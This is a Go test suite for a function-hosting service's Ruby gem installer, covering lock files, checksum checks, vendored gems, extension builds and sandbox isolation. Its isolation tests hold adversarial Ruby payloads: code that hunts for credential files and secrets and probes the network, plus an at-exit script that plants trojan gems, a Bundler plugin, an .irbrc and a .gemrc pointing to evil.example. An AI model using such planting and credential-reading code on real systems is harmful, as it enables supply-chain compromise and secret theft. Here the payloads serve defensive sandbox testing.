package install_test

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/brasa-dev/brasa/internal/faas"
	"github.com/brasa-dev/brasa/internal/install"
	"github.com/brasa-dev/brasa/runtimes"
)

// gem is a gem to be built for a test.
type gem struct {
	name, version, needs string // needs: of the specification, in Ruby
	files                map[string]string
}

var (
	greet  = gem{"greet", "1.2.0", `s.add_dependency "polite", "~> 1.0"`, map[string]string{"lib/greet.rb": "require \"polite\"\nmodule Greet\n  def self.hi(name) = Polite.say(\"Hello, #{name}\")\nend\n"}}
	polite = gem{"polite", "1.0.3", "", map[string]string{"lib/polite.rb": "module Polite\n  def self.say(text) = \"#{text}, please\"\nend\n"}}
)

// gemIndex builds gems and lays them out as a registry does.
func gemIndex(t *testing.T, gems ...gem) string {
	t.Helper()
	program, err := exec.LookPath("gem")
	if err != nil {
		t.Skip("gem is not installed")
	}
	dir := t.TempDir()
	if err := os.Chmod(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Mkdir(filepath.Join(dir, "gems"), 0o755); err != nil {
		t.Fatal(err)
	}
	run := func(in string, args ...string) {
		cmd := exec.Command(program, args...)
		cmd.Dir, cmd.Env = in, append(os.Environ(), "HOME="+t.TempDir())
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("gem %s: %v\n%s", args[0], err, out)
		}
	}
	for _, g := range gems {
		files := map[string]string{}
		var names []string
		for name, text := range g.files {
			files[name] = text
			names = append(names, fmt.Sprintf("%q", name))
		}
		files["it.gemspec"] = fmt.Sprintf("Gem::Specification.new do |s|\n  s.name, s.version, s.summary, s.authors, s.files = %q, %q, \"x\", [\"x\"], [%s]\n  s.homepage, s.license = \"http://localhost\", \"MIT\"\n  %s\nend\n", g.name, g.version, strings.Join(names, ", "), g.needs)
		run(layOut(t, files), "build", "--quiet", "it.gemspec", "--output", filepath.Join(dir, "gems", g.name+"-"+g.version+".gem"))
	}
	run(dir, "generate_index", "--directory", dir)
	return dir
}

func sumOfFile(t *testing.T, name string) string {
	t.Helper()
	b, err := os.ReadFile(name)
	if err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256(b)
	return hex.EncodeToString(sum[:])
}

// gemLock writes a lock that names greet and polite at rubygems.org.
func gemLock(greet, polite string, sums ...string) string {
	lock := "GEM\n  remote: https://rubygems.org/\n  specs:\n    greet (" + greet + ")\n      polite (~> 1.0)\n    polite (" + polite + ")\n\nPLATFORMS\n  x86_64-linux\n\nDEPENDENCIES\n  greet (~> 1.0)\n\n"
	if len(sums) > 0 {
		lock += fmt.Sprintf("CHECKSUMS\n  greet (%s) sha256=%s\n  polite (%s) sha256=%s\n\n", greet, sums[0], polite, sums[1])
	}
	return lock + "BUNDLED WITH\n   2.6.2\n"
}

const greetFile = "source \"https://rubygems.org\"\ngem \"greet\", \"~> 1.0\"\n"

const greetMain = "require \"greet\"\ndef main = Greet.hi(\"Ada\")\n"

// TestBundlerInstallsWhatAGemfileNames with and without a lock, and calls the function.
func TestBundlerInstallsWhatAGemfileNames(t *testing.T) {
	dir := gemIndex(t, greet, polite, gem{"polite", "1.1.0", "", polite.files}, gem{"other", "2.0.0", "", map[string]string{"lib/other.rb": "OTHER = 2\n"}})
	home := newShelf(t, dir, "")
	s := newScriptShop(t, runtimes.Ruby, func(c *install.Config) { c.Registries.Ruby.Source = home.url })

	files := map[string]string{"Gemfile": greetFile + "group :development, :test do\n  gem \"nosuch\"\nend\n", "main.rb": greetMain}
	res := s.must(t, files, install.Options{})
	if res.Cached || res.Note == "" || len(res.Packages) != 2 {
		t.Errorf("first = %+v, want two packages and a word on the lock", res)
	}
	if got := s.call(t, res, "main.rb", files); got != "Hello, Ada, please" {
		t.Errorf("answer = %q", got)
	}
	if again := s.must(t, files, install.Options{}); !again.Cached {
		t.Error("the same was installed twice")
	}

	locked := map[string]string{"Gemfile": greetFile, "Gemfile.lock": gemLock("1.2.0", "1.0.3"), "main.rb": "require \"greet\"\ndef main = [Gem.loaded_specs[\"polite\"], $LOAD_PATH.grep(/polite-1.0.3/).size]\n"}
	res = s.must(t, locked, install.Options{})
	if got := s.call(t, res, "main.rb", locked); got != "[null,1]" {
		t.Errorf("answer = %q, want the version of the lock, and no other way to it", got)
	}
	// What frameworks do: Bundler itself finds the layer, as it is locked.
	locked["main.rb"] = "require \"bundler/setup\"\nBundler.require\ndef main = [Greet.hi(\"Bo\"), Gem.loaded_specs[\"polite\"].version.to_s]\n"
	if got := s.call(t, res, "main.rb", locked); got != `["Hello, Bo, please","1.0.3"]` {
		t.Errorf("answer = %q", got)
	}

	with := s.must(t, locked, install.Options{With: []string{"other@2.0.0"}})
	locked["main.rb"] = "require \"other\"\nrequire \"greet\"\ndef main = [OTHER, Greet.hi(\"Cy\")]\n"
	if got := s.call(t, with, "main.rb", locked); got != `[2,"Hello, Cy, please"]` {
		t.Errorf("answer = %q", got)
	}
}

// TestBundlerTakesWhatTheCodeBrings: gems in vendor/cache, and directories that the Gemfile names.
func TestBundlerTakesWhatTheCodeBrings(t *testing.T) {
	dir := gemIndex(t, polite)
	home := newShelf(t, t.TempDir(), "")
	s := newScriptShop(t, runtimes.Ruby, func(c *install.Config) { c.Registries.Ruby.Source = home.url })
	b, err := os.ReadFile(filepath.Join(dir, "gems", "polite-1.0.3.gem"))
	if err != nil {
		t.Fatal(err)
	}
	files := map[string]string{
		"Gemfile":                  "source \"https://rubygems.org\"\ngem \"greet\", path: \"gems/greet\"\n",
		"Gemfile.lock":             "PATH\n  remote: gems/greet\n  specs:\n    greet (1.2.0)\n      polite (~> 1.0)\n\nGEM\n  remote: https://rubygems.org/\n  specs:\n    polite (1.0.3)\n\nPLATFORMS\n  x86_64-linux\n\nDEPENDENCIES\n  greet!\n\nBUNDLED WITH\n   2.3.0\n",
		"gems/greet/greet.gemspec": "require_relative \"lib/greet/version\"\nGem::Specification.new do |s|\n  s.name, s.version, s.summary, s.authors = \"greet\", Greet::VERSION, \"x\", [\"x\"]\n  s.add_dependency \"polite\", \"~> 1.0\"\nend\n",
		"gems/greet/lib/greet.rb":  greet.files["lib/greet.rb"], "gems/greet/lib/greet/version.rb": "module Greet\n  VERSION = \"1.2.0\"\nend\n",
		"vendor/cache/polite-1.0.3.gem": string(b), "main.rb": greetMain,
	}
	res := s.must(t, files, install.Options{})
	if got := s.call(t, res, "main.rb", files); got != "Hello, Ada, please" {
		t.Errorf("answer = %q", got)
	}
	if n := len(home.asked); n > 0 {
		t.Errorf("the registry was asked for %v", home.asked)
	}
	if res, _, err := s.install(t, map[string]string{"Gemfile": greetFile, "vendor/bundle/ruby/x": ""}, install.Options{}); res != nil || err != nil {
		t.Errorf("code with its gems in vendor/bundle: %+v, %v, want nothing", res, err)
	}
}

// TestBundlerSaysWhatIsWrong with a Gemfile, a lock or a registry.
func TestBundlerSaysWhatIsWrong(t *testing.T) {
	dir := gemIndex(t, greet, polite)
	home := newShelf(t, dir, "")
	s := newScriptShop(t, runtimes.Ruby, func(c *install.Config) { c.Registries.Ruby.Source = home.url })
	right := []string{sumOfFile(t, filepath.Join(dir, "gems", "greet-1.2.0.gem")), sumOfFile(t, filepath.Join(dir, "gems", "polite-1.0.3.gem"))}
	wrong := []string{right[0], strings.Repeat("5a", 32)}
	strict := install.Options{Strict: true}

	s.refuses(t, map[string]string{"Gemfile": "source \"https://rubygems.org\"\ngem \"greet\", \"~> 7.0\"\n"}, install.Options{}, faas.Invalid, "greet", "7.0")
	s.refuses(t, map[string]string{"Gemfile": "source \"https://rubygems.org\"\ngem \"nosuchgem\"\n"}, install.Options{}, faas.Invalid, "nosuchgem")
	s.refuses(t, map[string]string{"Gemfile": "gem \"greet\" do do\n"}, install.Options{}, faas.Invalid, "the Gemfile cannot be read")
	s.refuses(t, map[string]string{"Gemfile": "source \"https://rubygems.org\"\ngem \"x\", git: \"https://example.com/x.git\"\n"}, install.Options{}, faas.Invalid, "git repository", "bundle cache")
	s.refuses(t, map[string]string{"Gemfile": greetFile, "Gemfile.lock": gemLock("1.2.0", "1.0.9")}, install.Options{}, faas.Invalid, "polite 1.0.9", "yanked")
	s.refuses(t, map[string]string{"Gemfile": greetFile, "Gemfile.lock": gemLock("1.2.0", "1.0.3", wrong...)}, install.Options{}, faas.Invalid, "polite 1.0.3 has the hash "+right[1], "Gemfile.lock says")
	s.refuses(t, map[string]string{"Gemfile": greetFile, "Gemfile.lock": gemLock("1.2.0", "1.0.3")}, strict, faas.Invalid, "hashes are demanded", "greet 1.2.0")
	s.refuses(t, map[string]string{"Gemfile": greetFile}, install.Options{With: []string{"--config=x"}}, faas.Invalid, "names no gem")
	s.must(t, map[string]string{"Gemfile": greetFile, "Gemfile.lock": gemLock("1.2.0", "1.0.3", right...)}, strict)
}

// TestAGemfileSeesNeitherNetworkNorCredentials: it is code, and so are the gems' extensions.
func TestAGemfileSeesNeitherNetworkNorCredentials(t *testing.T) {
	dir := gemIndex(t, polite, gem{"spy", "1.0.0", "s.extensions = [\"ext/extconf.rb\"]", map[string]string{
		"lib/spy.rb":     "SPY = File.read(File.join(__dir__, \"found\"))\n",
		"ext/extconf.rb": spyCode + "\nFile.write(File.join(__dir__, \"..\", \"lib\", \"found\"), found.join(\" \"))\nFile.write(\"Makefile\", \"all clean install:\\n\\ttrue\\n\")\n",
	}})
	home := newShelf(t, dir, "secret-word")
	address := strings.Replace(home.url, "http://", "http://user:secret-word@", 1)
	s := newScriptShop(t, runtimes.Ruby, func(c *install.Config) {
		c.Registries.Ruby.Source, c.Registries.Ruby.Extra = address, []string{address}
	})
	files := map[string]string{
		"Gemfile": "HOST = \"" + strings.Trim(strings.TrimPrefix(home.url, "http://"), "/") + "\"\n" + spyCode + "\nraise found.join(\" \") unless found.empty?\nsource \"https://rubygems.org\"\ngem \"spy\"\nsource(\"" + home.url + "\") { gem \"polite\" }\n",
		"main.rb": "require \"spy\"\nrequire \"polite\"\ndef main = \"found #{SPY}.\"\n",
	}
	res := s.must(t, files, install.Options{})
	if home.times("/gems/polite-1.0.3.gem") == 0 {
		t.Error("the private registry was not asked")
	}
	if got := s.call(t, res, "main.rb", files); got != "found ." {
		t.Errorf("an extension saw %s", got)
	}
	_ = filepath.WalkDir(res.Dir, func(p string, e os.DirEntry, err error) error {
		if err == nil && e.Type().IsRegular() {
			if b, _ := os.ReadFile(p); strings.Contains(string(b), "secret-word") {
				t.Errorf("the layer's %s holds the password", p)
			}
		}
		return err
	})
}

// TestAGemfileLeavesNothingForTheDownload: what it writes runs in none of the steps behind it that have
// credentials, wherever Ruby, RubyGems and Bundler would look for code.
func TestAGemfileLeavesNothingForTheDownload(t *testing.T) {
	home := newShelf(t, gemIndex(t, polite), "secret-word")
	address := strings.Replace(home.url, "http://", "http://user:secret-word@", 1)
	s := newScriptShop(t, runtimes.Ruby, func(c *install.Config) {
		c.Registries.Ruby.Source, c.Registries.Ruby.Extra = address, []string{address}
	})
	const plant = `
require "fileutils"
LEAK = 'if Dir.exist?("/access") then puts "leaked " + Dir["/access/*.json"].map { |f| File.read(f) }.join end'
def plant(name, text)
  FileUtils.mkdir_p(File.dirname(name))
  File.write(name, text)
rescue SystemCallError
end
at_exit do
  abi = RbConfig::CONFIG["ruby_version"]
  ["/scratch/.gem/ruby/#{abi}", "/scratch/.local/share/gem/ruby/#{abi}", "/deps/ruby/#{abi}"].each do |dir|
    %w[json fileutils uri bundler digest].each do |g|
      plant("#{dir}/specifications/#{g}-99.0.gemspec", "Gem::Specification.new { |s| s.name = %q(#{g}); s.version = %q(99.0); s.require_paths = [%q(lib)]; s.summary = s.authors = %q(x) }")
      plant("#{dir}/gems/#{g}-99.0/lib/#{g}.rb", LEAK)
    end
  end
  plant("/scratch/app/Gemfile", LEAK + "\nsource %q(https://rubygems.org)\ngem %q(polite)\n")
  plant("/scratch/config/plugin/index", "---\ncommands:\n  lock: evil\nplugin_paths:\n  evil: /scratch/evil\n")
  plant("/scratch/evil/plugins.rb", LEAK)
  plant("/scratch/.irbrc", LEAK)
  plant("/scratch/.gemrc", "---\n:sources: [http://evil.example]\n")
  plant("/scratch/app/Gemfile.lock", "")
  FileUtils.ln_sf("/access/gems.json", "/scratch/wanted.json") if ENV["LINKED"]
end
`
	for name, c := range map[string]struct {
		set, lock string
	}{
		"no lock": {}, "a lock": {lock: "GEM\n  remote: https://rubygems.org/\n  specs:\n    polite (1.0.3)\n\nPLATFORMS\n  ruby\n\nDEPENDENCIES\n  polite\n"},
		"a link": {set: "ENV[\"LINKED\"] = \"1\"\n"},
	} {
		files := map[string]string{"Gemfile": c.set + plant + "source \"https://rubygems.org\"\ngem \"polite\"\n"}
		if c.lock != "" {
			files["Gemfile.lock"] = c.lock
		}
		res, log, err := s.install(t, files, install.Options{})
		said := log
		if err != nil {
			said += err.Error() + faas.AsError(err).Trace
		}
		if strings.Contains(said, "leaked") || strings.Contains(said, "secret-word") {
			t.Errorf("%s: what the Gemfile left ran beside the credentials:\n%s", name, said)
		}
		if c.set != "" {
			continue // it is refused, or not; what it says is what counts
		}
		if err != nil {
			t.Errorf("%s: %v\n%s", name, err, log)
		} else if len(res.Packages) != 1 || res.Packages[0].Name != "polite" {
			t.Errorf("%s: the layer has %v, want polite alone", name, res.Packages)
		}
	}
}

// spyCode looks for what it should not see.
const spyCode = `
require "socket"
found = []
found << "credentials" if Dir.glob("/access/*").any? || ENV.values.any? { |v| v.include?("secret-" + "word") }
Dir.glob(["/scratch/**/*", "/src/**/*", "/deps/**/*", "/tmp/**/*"], File::FNM_DOTMATCH).each { |f| found << f if File.file?(f) && File.binread(f).include?("secret-" + "word") }
begin
  host, port = defined?(HOST) ? HOST.split(":") : ["1.1.1.1", 80]
  Socket.tcp(host, port.to_i, connect_timeout: 2) { found << "network" }
rescue SystemCallError, SocketError
end
`

// TestBundlerCompilesExtensions of gems, without a network.
func TestBundlerCompilesExtensions(t *testing.T) {
	if out, err := exec.Command("ruby", "-rmkmf", "-e", "").CombinedOutput(); err != nil {
		t.Skipf("this host cannot compile extensions of Ruby: %s", strings.SplitN(string(out), "\n", 2)[0])
	}
	dir := gemIndex(t, gem{"fast", "0.1.0", "s.extensions = [\"ext/fast/extconf.rb\"]", map[string]string{
		"lib/fast.rb": "require \"fast/fast\"\n", "ext/fast/extconf.rb": "require \"mkmf\"\ncreate_makefile(\"fast/fast\")\n",
		"ext/fast/fast.c": "#include <ruby.h>\nstatic VALUE twice(VALUE self, VALUE n) { return INT2NUM(2 * NUM2INT(n)); }\nvoid Init_fast(void) { rb_define_module_function(rb_define_module(\"Fast\"), \"twice\", twice, 1); }\n",
	}})
	s := newScriptShop(t, runtimes.Ruby, func(c *install.Config) { c.Registries.Ruby.Source = "file://" + dir })
	files := map[string]string{"Gemfile": "source \"https://rubygems.org\"\ngem \"fast\"\n", "main.rb": "require \"fast\"\ndef main = Fast.twice(21)\n"}
	if got := s.call(t, s.must(t, files, install.Options{}), "main.rb", files); got != "42" {
		t.Errorf("answer = %q", got)
	}
}

// TestBundlerInstallsFromRubyGems: Rack from where everybody gets it.
func TestBundlerInstallsFromRubyGems(t *testing.T) {
	reachable(t, "rubygems.org", "https://rubygems.org/gems/rack-3.1.8.gem")
	s := newScriptShop(t, runtimes.Ruby, nil)
	files := map[string]string{"Gemfile": "source \"https://rubygems.org\"\ngem \"rack\", \"3.1.8\"\n", "config.ru": "run ->(env) { [200, {}, [Rack.release]] }\n"}
	if got := s.call(t, s.must(t, files, install.Options{}), "config.ru", files); got != "3.1.8" {
		t.Errorf("answer = %q", got)
	}
}
